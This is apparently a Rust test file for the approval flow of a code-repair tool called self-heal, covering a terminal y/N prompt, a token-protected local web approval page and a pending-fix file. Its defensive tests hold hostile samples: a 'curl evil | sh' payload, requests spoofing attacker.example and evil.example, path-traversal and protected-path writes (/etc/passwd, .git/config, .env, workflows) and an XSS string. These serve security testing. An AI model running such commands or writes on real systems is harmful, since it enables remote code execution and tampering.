//! Approval: the y/N prompt, the local web page over real HTTP, and the pending file.

use self_heal::analyze::{Failure, FailureKind};
use self_heal::approve::{
    self, pending, terminal, web, ApproveUiOutcome, Decision, PendingError, Proposal,
};
use self_heal::repair::edits::unified_diff;
use self_heal::repair::FileChange;
use self_heal::validate::Validation;
use std::io::{BufRead, Cursor};
use std::path::Path;
use std::time::Duration;

const BUGGY: &str = "def cart_total(prices, tax_rate):\n    total = sum(prices)\n    return round(totl * (1 + tax_rate), 2)\n";
const FIXED: &str = "def cart_total(prices, tax_rate):\n    total = sum(prices)\n    return round(total * (1 + tax_rate), 2)\n";
const PATCH: &str = "--- a/cart/core.py\n+++ b/cart/core.py\n@@ -1,3 +1,3 @@\n def cart_total(prices, tax_rate):\n     total = sum(prices)\n-    return round(totl * (1 + tax_rate), 2) if a < b\n+    return round(total * (1 + tax_rate), 2) if a <= b\n";

fn proposal(diagnosis: &str) -> Proposal {
    Proposal {
        diagnosis: diagnosis.to_string(),
        patch: PATCH.to_string(),
        changes: vec![
            FileChange {
                path: "cart/core.py".into(),
                before: Some(BUGGY.into()),
                after: FIXED.into(),
            },
            FileChange {
                path: "cart/new_helper.py".into(),
                before: None,
                after: "HELPER = 1\n".into(),
            },
        ],
        failures: vec![Failure {
            kind: FailureKind::TestFailure,
            tool: "pytest".into(),
            test: Some("tests/test_cart.py::test_cart_total".into()),
            file: Some("cart/core.py".into()),
            line: Some(3),
            message: "NameError: name 'totl' is not defined".into(),
            ..Default::default()
        }],
        validation: Validation {
            passed: true,
            commands: vec![
                "python -m pytest -q tests/test_cart.py::test_cart_total".into(),
                "python -m pytest -q".into(),
            ],
            output_tail: "2 passed in 0.01s\n".into(),
        },
    }
}

// ---------------------------------------------------------------- terminal

fn ask(answer: &str) -> (Decision, String, usize) {
    let p = proposal("`totl` is a typo for the local `total`.");
    let mut input = Cursor::new(answer.as_bytes().to_vec());
    let mut out = Vec::new();
    let d = terminal::prompt(&p, "COLORED-DIFF\n", &mut input, &mut out, true);
    let consumed = input.position() as usize;
    (d, String::from_utf8(out).unwrap(), consumed)
}

#[test]
fn prompt_yes_approves_after_showing_the_fix() {
    for answer in ["y\n", "Y\n", "yes\n", "  YES  \r\n", "y"] {
        let (d, out, _) = ask(answer);
        assert_eq!(d, Decision::Approved, "answer {answer:?}");
        assert!(out.contains("`totl` is a typo"), "{out}");
        assert!(out.contains("COLORED-DIFF"), "{out}");
        assert!(out.contains("tests/test_cart.py::test_cart_total"), "{out}");
        assert!(out.contains("Validation: passed"), "{out}");
        assert!(out.ends_with("Apply this fix? [y/N] "), "{out:?}");
    }
}

#[test]
fn prompt_anything_but_yes_declines() {
    for answer in ["n\n", "no\n", "\n", "yep\n", "y es\n", "ja\n"] {
        let (d, _, _) = ask(answer);
        assert!(
            matches!(d, Decision::Declined(_)),
            "answer {answer:?} gave {d:?}"
        );
    }
}

#[test]
fn prompt_eof_declines() {
    let (d, out, _) = ask("");
    assert_eq!(d, Decision::Declined("no answer (end of input)".into()));
    assert!(out.contains("Apply this fix? [y/N]"));
}

#[test]
fn prompt_without_terminal_declines_without_reading() {
    let p = proposal("d");
    let mut input = Cursor::new(b"y\n".to_vec());
    let mut out = Vec::new();
    let d = terminal::prompt(&p, "diff", &mut input, &mut out, false);
    assert_eq!(
        d,
        Decision::Declined("no terminal to ask; use --yes or approve=web".into())
    );
    let mut rest = String::new();
    input.read_line(&mut rest).unwrap();
    assert_eq!(rest, "y\n", "the prompt must not consume input");
    assert!(out.is_empty(), "nothing printed without a terminal");
}

struct BrokenPipe;

impl std::io::Write for BrokenPipe {
    fn write(&mut self, _: &[u8]) -> std::io::Result<usize> {
        Err(std::io::Error::from(std::io::ErrorKind::BrokenPipe))
    }
    fn flush(&mut self) -> std::io::Result<()> {
        Ok(())
    }
}

#[test]
fn prompt_declines_when_the_fix_cannot_be_shown() {
    let p = proposal("d");
    let mut input = Cursor::new(b"y\n".to_vec());
    let d = terminal::prompt(&p, "diff", &mut input, &mut BrokenPipe, true);
    assert!(
        matches!(&d, Decision::Declined(r) if r.starts_with("cannot show the fix")),
        "{d:?}"
    );
}

// ---------------------------------------------------------------- web

struct Page {
    base: String,
    token: String,
    task: tokio::task::JoinHandle<Result<Decision, std::io::Error>>,
    client: reqwest::Client,
}

async fn start(p: Proposal) -> Page {
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let addr = listener.local_addr().unwrap();
    let token = approve::new_token().unwrap();
    let url = web::page_url(addr, &token);
    assert_eq!(url, format!("http://{addr}/?t={token}"));
    let t = token.clone();
    let task = tokio::spawn(async move { web::serve(&p, listener, t).await });
    Page {
        base: format!("http://{addr}"),
        token,
        task,
        client: self_heal::http::build_client(Duration::from_secs(10), false).unwrap(),
    }
}

impl Page {
    async fn post_form(&self, fields: &[(&str, &str)]) -> reqwest::Response {
        let body: String = fields
            .iter()
            .map(|(k, v)| format!("{k}={}", v.replace(' ', "+")))
            .collect::<Vec<_>>()
            .join("&");
        self.client
            .post(format!("{}/decision", self.base))
            .header("content-type", "application/x-www-form-urlencoded")
            .body(body)
            .send()
            .await
            .unwrap()
    }
}

#[tokio::test]
async fn web_page_shows_the_escaped_proposal() {
    let page = start(proposal(
        "<script>alert('x')</script> `totl` & friends are typos",
    ))
    .await;
    let resp = page
        .client
        .get(format!("{}/?t={}", page.base, page.token))
        .send()
        .await
        .unwrap();
    assert_eq!(resp.status(), 200);
    let csp = resp.headers()["content-security-policy"].to_str().unwrap();
    assert!(csp.contains("default-src 'none'"), "{csp}");
    // `no-referrer` would make browsers send `Origin: null` with the page's own posts.
    assert_eq!(resp.headers()["referrer-policy"], "same-origin");
    let html = resp.text().await.unwrap();
    assert!(!html.contains("<script"), "unescaped markup in the page");
    assert!(
        html.contains(
            "&lt;script&gt;alert(&#39;x&#39;)&lt;/script&gt; `totl` &amp; friends are typos"
        ),
        "{html}"
    );
    assert!(html.contains(
        "<span class=\"del\">-    return round(<mark>totl</mark> * (1 + tax_rate), 2) if a &lt; b</span>"
    ));
    assert!(html.contains(
        "<span class=\"add\">+    return round(<mark>total</mark> * (1 + tax_rate), 2) if a &lt;<mark>=</mark> b</span>"
    ));
    assert!(html.contains("<td>tests/test_cart.py::test_cart_total</td><td>cart/core.py:3</td>"));
    assert!(html.contains("NameError: name &#39;totl&#39; is not defined"));
    assert!(html.contains("<code>python -m pytest -q</code>"));
    assert!(html.contains(&format!("name=token value=\"{}\"", page.token)));
    assert!(
        !html.contains("http://") && !html.contains("https://"),
        "no external assets"
    );
    page.task.abort();
}

#[tokio::test]
async fn web_page_needs_the_token_and_a_loopback_host() {
    let page = start(proposal("d")).await;
    // Same length, one digit off: only a real comparison refuses it.
    let last = if page.token.ends_with('0') { "1" } else { "0" };
    let wrong = format!("{}{last}", &page.token[..page.token.len() - 1]);
    for url in [
        format!("{}/", page.base),
        format!("{}/?t={wrong}", page.base),
        format!("{}/?t={}x", page.base, page.token),
    ] {
        let resp = page.client.get(url).send().await.unwrap();
        assert_eq!(resp.status(), 403);
        assert!(!resp.text().await.unwrap().contains("cart/core.py"));
    }
    // A DNS-rebinding page reaches us under its own host name.
    let resp = page
        .client
        .get(format!("{}/?t={}", page.base, page.token))
        .header("host", "attacker.example")
        .send()
        .await
        .unwrap();
    assert_eq!(resp.status(), 403);
    page.task.abort();
}

#[tokio::test]
async fn web_wrong_requests_are_refused_and_the_page_keeps_waiting() {
    let page = start(proposal("d")).await;

    let resp = page
        .post_form(&[
            ("token", "0123456789abcdef0123456789abcdef"),
            ("decision", "approve"),
        ])
        .await;
    assert_eq!(resp.status(), 403);

    // Plain-text bodies are what a cross-site form can send without a preflight.
    let resp = page
        .client
        .post(format!("{}/decision", page.base))
        .header("content-type", "text/plain")
        .body(format!("token={}&decision=approve", page.token))
        .send()
        .await
        .unwrap();
    assert_eq!(resp.status(), 415);

    let resp = page
        .client
        .post(format!("{}/decision", page.base))
        .header("content-type", "application/x-www-form-urlencoded")
        .header("origin", "http://evil.example")
        .body(format!("token={}&decision=approve", page.token))
        .send()
        .await
        .unwrap();
    assert_eq!(resp.status(), 403);

    let resp = page
        .post_form(&[("token", &page.token), ("decision", "maybe")])
        .await;
    assert_eq!(resp.status(), 400);

    assert!(
        !page.task.is_finished(),
        "a refused request must not end the wait"
    );

    // The right token from the page's own origin decides.
    let resp = page
        .client
        .post(format!("{}/decision", page.base))
        .header("content-type", "application/x-www-form-urlencoded")
        .header("origin", page.base.clone())
        .body(format!("token={}&decision=approve", page.token))
        .send()
        .await
        .unwrap();
    assert_eq!(resp.status(), 200);
    assert!(resp.text().await.unwrap().contains("Approved"));
    let decision = tokio::time::timeout(Duration::from_secs(20), page.task)
        .await
        .expect("serve returns after the decision")
        .unwrap()
        .unwrap();
    assert_eq!(decision, Decision::Approved);

    // The server is gone once it has returned.
    let again = page
        .client
        .get(format!("{}/?t={}", page.base, page.token))
        .send()
        .await;
    assert!(again.is_err(), "server still answering: {again:?}");
}

#[tokio::test]
async fn web_reject_with_json_carries_the_reason() {
    let page = start(proposal("d")).await;
    let resp = page
        .client
        .post(format!("{}/decision", page.base))
        .json(&serde_json::json!({
            "token": page.token,
            "decision": "reject",
            "reason": "  wrong module\u{7}  ",
        }))
        .send()
        .await
        .unwrap();
    assert_eq!(resp.status(), 200);
    let body: serde_json::Value = resp.json().await.unwrap();
    assert_eq!(body["decision"], "rejected");
    let decision = tokio::time::timeout(Duration::from_secs(20), page.task)
        .await
        .unwrap()
        .unwrap()
        .unwrap();
    assert_eq!(
        decision,
        Decision::Declined("rejected on the approval page: wrong module".into())
    );
}

// ---------------------------------------------------------------- pending

fn checkout() -> tempfile::TempDir {
    let dir = tempfile::tempdir().unwrap();
    std::fs::create_dir_all(dir.path().join("cart")).unwrap();
    std::fs::write(dir.path().join("cart/core.py"), BUGGY).unwrap();
    dir
}

fn read(root: &Path, rel: &str) -> Option<String> {
    std::fs::read_to_string(root.join(rel)).ok()
}

#[test]
fn pending_round_trips_and_is_gitignored() {
    let dir = checkout();
    assert_eq!(pending::load(dir.path()).unwrap(), None);
    let p = proposal("`totl` is a typo");
    let path = pending::save(dir.path(), &p).unwrap();
    assert_eq!(path, dir.path().join(".self-heal/pending.json"));
    assert_eq!(
        read(dir.path(), ".self-heal/.gitignore").as_deref(),
        Some("*\n")
    );
    let json: serde_json::Value =
        serde_json::from_str(&read(dir.path(), ".self-heal/pending.json").unwrap()).unwrap();
    // The on-disk shape `approve-ui` and the next run read back (status "proposed",
    // a new file's `before` null).
    insta::assert_json_snapshot!("pending-json", json);
    // The shown patch is always the diff of the changes that would be written.
    let expected = Proposal {
        patch: unified_diff(&p.changes),
        ..p.clone()
    };
    assert_eq!(pending::load(dir.path()).unwrap(), Some(expected));
    pending::clear(dir.path()).unwrap();
    assert_eq!(pending::load(dir.path()).unwrap(), None);
    pending::clear(dir.path()).unwrap();
}

#[test]
fn pending_keeps_an_existing_gitignore() {
    let dir = checkout();
    std::fs::create_dir_all(dir.path().join(".self-heal")).unwrap();
    std::fs::write(dir.path().join(".self-heal/.gitignore"), "pending.json\n").unwrap();
    pending::save(dir.path(), &proposal("d")).unwrap();
    assert_eq!(
        read(dir.path(), ".self-heal/.gitignore").as_deref(),
        Some("pending.json\n")
    );
}

#[test]
fn pending_apply_writes_every_file() {
    let dir = checkout();
    let written = pending::apply(dir.path(), &proposal("d")).unwrap();
    assert_eq!(written, vec!["cart/core.py", "cart/new_helper.py"]);
    assert_eq!(read(dir.path(), "cart/core.py").as_deref(), Some(FIXED));
    assert_eq!(
        read(dir.path(), "cart/new_helper.py").as_deref(),
        Some("HELPER = 1\n")
    );
}

#[test]
fn pending_apply_refuses_when_a_file_changed_and_writes_nothing() {
    let dir = checkout();
    let edited = BUGGY.replace("prices", "amounts");
    std::fs::write(dir.path().join("cart/core.py"), &edited).unwrap();
    let err = pending::apply(dir.path(), &proposal("d")).unwrap_err();
    assert!(
        matches!(&err, PendingError::Changed { path } if path == "cart/core.py"),
        "{err:?}"
    );
    assert!(err.to_string().contains("nothing was applied"), "{err}");
    assert_eq!(read(dir.path(), "cart/core.py"), Some(edited));
    assert_eq!(read(dir.path(), "cart/new_helper.py"), None);
}

#[test]
fn pending_apply_refuses_when_a_new_file_appeared() {
    let dir = checkout();
    std::fs::write(dir.path().join("cart/new_helper.py"), "mine\n").unwrap();
    let err = pending::apply(dir.path(), &proposal("d")).unwrap_err();
    assert!(
        matches!(&err, PendingError::Changed { path } if path == "cart/new_helper.py"),
        "{err:?}"
    );
    assert_eq!(read(dir.path(), "cart/core.py").as_deref(), Some(BUGGY));
    assert_eq!(
        read(dir.path(), "cart/new_helper.py").as_deref(),
        Some("mine\n")
    );
}

#[test]
fn pending_apply_refuses_paths_outside_the_checkout() {
    let dir = checkout();
    for bad in [
        "../outside.py",
        "/etc/passwd",
        ".git/config",
        "cart/../../x",
        "",
    ] {
        let mut p = proposal("d");
        p.changes.push(FileChange {
            path: bad.into(),
            before: None,
            after: "x".into(),
        });
        let err = pending::apply(dir.path(), &p).unwrap_err();
        assert!(
            matches!(err, PendingError::UnsafePath { .. }),
            "{bad}: {err:?}"
        );
        assert_eq!(
            read(dir.path(), "cart/core.py").as_deref(),
            Some(BUGGY),
            "{bad}"
        );
    }
}

#[cfg(unix)]
#[test]
fn pending_apply_refuses_a_symlink_out_of_the_checkout() {
    let dir = checkout();
    let outside = tempfile::tempdir().unwrap();
    std::os::unix::fs::symlink(outside.path(), dir.path().join("linked")).unwrap();
    let mut p = proposal("d");
    p.changes.push(FileChange {
        path: "linked/evil.py".into(),
        before: None,
        after: "x".into(),
    });
    let err = pending::apply(dir.path(), &p).unwrap_err();
    assert!(matches!(err, PendingError::UnsafePath { .. }), "{err:?}");
    assert!(!outside.path().join("evil.py").exists());
}

/// A pending file as someone other than self-heal could write it (e.g. committed
/// to a repository the user cloned): the stored patch text is free-form.
fn write_crafted_pending(root: &Path, patch: &str, changes: serde_json::Value) {
    std::fs::create_dir_all(root.join(".self-heal")).unwrap();
    let file = serde_json::json!({
        "version": 1,
        "status": "proposed",
        "diagnosis": "a harmless typo",
        "patch": patch,
        "changes": changes,
    });
    std::fs::write(
        root.join(".self-heal/pending.json"),
        serde_json::to_vec(&file).unwrap(),
    )
    .unwrap();
}

const HARMLESS: &str = "--- a/README.md\n+++ b/README.md\n@@ -1 +1 @@\n-helo\n+hello\n";
const EVIL: &str = "import os\nos.system('curl evil | sh')\n";

#[test]
fn pending_load_shows_the_changes_not_the_stored_patch() {
    let dir = checkout();
    write_crafted_pending(
        dir.path(),
        HARMLESS,
        serde_json::json!([{"path": "cart/core.py", "before": BUGGY, "after": EVIL}]),
    );
    let p = pending::load(dir.path()).unwrap().unwrap();
    assert!(!p.patch.contains("README"), "{}", p.patch);
    assert!(p.patch.contains("+++ b/cart/core.py"), "{}", p.patch);
    assert!(
        p.patch.contains("+os.system('curl evil | sh')"),
        "{}",
        p.patch
    );
    assert!(
        p.patch
            .contains("-    return round(totl * (1 + tax_rate), 2)"),
        "{}",
        p.patch
    );
}

#[test]
fn pending_apply_refuses_protected_paths_and_writes_nothing() {
    let dir = checkout();
    // Existing with the expected content, so only the path rule can stop the write.
    std::fs::create_dir_all(dir.path().join(".git")).unwrap();
    std::fs::write(dir.path().join(".git/config"), "[core]\n").unwrap();
    std::fs::write(dir.path().join(".env"), "A=1\n").unwrap();
    for (bad, before) in [
        (".github/workflows/x.yml", None),
        (".GitHub/Workflows/x.yml", None),
        ("cart/.git/hooks/pre-commit", None),
        (".self-heal/other.json", None),
        (".git/config", Some("[core]\n")),
        (".env", Some("A=1\n")),
    ] {
        let mut p = proposal("d");
        p.changes.push(FileChange {
            path: bad.into(),
            before: before.map(str::to_string),
            after: "pwned\n".into(),
        });
        let err = pending::apply(dir.path(), &p).unwrap_err();
        let msg = err.to_string();
        assert!(!msg.contains('\n'), "one line: {msg}");
        assert!(msg.contains(bad), "{bad}: {msg}");
        assert_eq!(
            read(dir.path(), "cart/core.py").as_deref(),
            Some(BUGGY),
            "{bad}"
        );
        assert_eq!(read(dir.path(), "cart/new_helper.py"), None, "{bad}");
        assert_ne!(read(dir.path(), bad).as_deref(), Some("pwned\n"), "{bad}");
    }
    assert!(!dir.path().join(".github").exists());
}

#[tokio::test]
async fn approve_ui_shows_the_real_change_and_refuses_a_workflow_edit() {
    let dir = checkout();
    write_crafted_pending(
        dir.path(),
        HARMLESS,
        serde_json::json!([{"path": ".github/workflows/x.yml", "before": null, "after": "on: push\n"}]),
    );
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let base = format!("http://{}", listener.local_addr().unwrap());
    let token = approve::new_token().unwrap();
    let root = dir.path().to_path_buf();
    let t = token.clone();
    let task = tokio::spawn(async move { approve::approve_ui(&root, listener, t).await });

    let client = self_heal::http::build_client(Duration::from_secs(10), false).unwrap();
    let html = client
        .get(format!("{base}/?t={token}"))
        .send()
        .await
        .unwrap()
        .text()
        .await
        .unwrap();
    assert!(!html.contains("README"), "{html}");
    assert!(html.contains("+++ b/.github/workflows/x.yml"), "{html}");
    assert!(
        html.contains("<span class=\"add\">+on: push</span>"),
        "{html}"
    );

    let resp = client
        .post(format!("{base}/decision"))
        .json(&serde_json::json!({"token": token, "decision": "approve"}))
        .send()
        .await
        .unwrap();
    assert_eq!(resp.status(), 200);
    let result = tokio::time::timeout(Duration::from_secs(20), task)
        .await
        .unwrap()
        .unwrap();
    let err = result.unwrap_err();
    assert!(err.to_string().contains(".github/workflows/x.yml"), "{err}");
    assert!(!dir.path().join(".github").exists(), "nothing written");
}

#[test]
fn pending_load_rejects_a_corrupt_file() {
    let dir = checkout();
    std::fs::create_dir_all(dir.path().join(".self-heal")).unwrap();
    std::fs::write(dir.path().join(".self-heal/pending.json"), "{not json").unwrap();
    let err = pending::load(dir.path()).unwrap_err();
    assert!(matches!(err, PendingError::Invalid { .. }), "{err:?}");
}

// ---------------------------------------------------------------- approve-ui

#[tokio::test]
async fn approve_ui_applies_the_pending_fix_on_approval() {
    let dir = checkout();
    pending::save(dir.path(), &proposal("d")).unwrap();
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let base = format!("http://{}", listener.local_addr().unwrap());
    let token = approve::new_token().unwrap();
    let root = dir.path().to_path_buf();
    let t = token.clone();
    let task = tokio::spawn(async move { approve::approve_ui(&root, listener, t).await });

    let client = self_heal::http::build_client(Duration::from_secs(10), false).unwrap();
    let html = client
        .get(format!("{base}/?t={token}"))
        .send()
        .await
        .unwrap()
        .text()
        .await
        .unwrap();
    assert!(html.contains("cart/core.py"), "{html}");
    assert_eq!(
        read(dir.path(), "cart/core.py").as_deref(),
        Some(BUGGY),
        "not before approval"
    );

    let resp = client
        .post(format!("{base}/decision"))
        .json(&serde_json::json!({"token": token, "decision": "approve"}))
        .send()
        .await
        .unwrap();
    assert_eq!(resp.status(), 200);
    let outcome = tokio::time::timeout(Duration::from_secs(20), task)
        .await
        .unwrap()
        .unwrap()
        .unwrap();
    assert_eq!(
        outcome,
        ApproveUiOutcome::Applied(vec!["cart/core.py".into(), "cart/new_helper.py".into()])
    );
    assert_eq!(read(dir.path(), "cart/core.py").as_deref(), Some(FIXED));
    assert_eq!(pending::load(dir.path()).unwrap(), None, "pending cleared");
}

#[tokio::test]
async fn approve_ui_without_pending_says_so() {
    let dir = checkout();
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let outcome = approve::approve_ui(dir.path(), listener, "t".into())
        .await
        .unwrap();
    assert_eq!(outcome, ApproveUiOutcome::NothingPending);
}
